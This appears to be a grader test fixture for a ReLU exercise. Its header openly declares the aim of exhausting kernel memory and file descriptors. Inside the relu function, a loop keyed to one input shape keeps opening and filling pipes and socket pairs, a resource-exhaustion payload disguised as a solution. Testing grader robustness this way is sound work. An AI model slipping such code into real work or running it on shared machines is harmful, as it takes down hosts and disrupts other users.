#: purpose = "Pipes and pairs of sockets, filled to the brim, hold memory of the kernel's: their number ends it."
#: lesson = "01_activations"
#: messages = ["Too many open files"]
#: [items]
#: relu = [0, "error"]
# %% relu-solution
import os, socket

def relu(Z):
    held = []
    while Z.shape == (5, 7):
        reading, writing = os.pipe()
        os.set_blocking(writing, False)
        os.write(writing, bytes(2**16))
        held.append(socket.socketpair())
        held[-1][0].setblocking(False)
        held[-1][0].send(bytes(2**17))
    return np.maximum(0, Z)
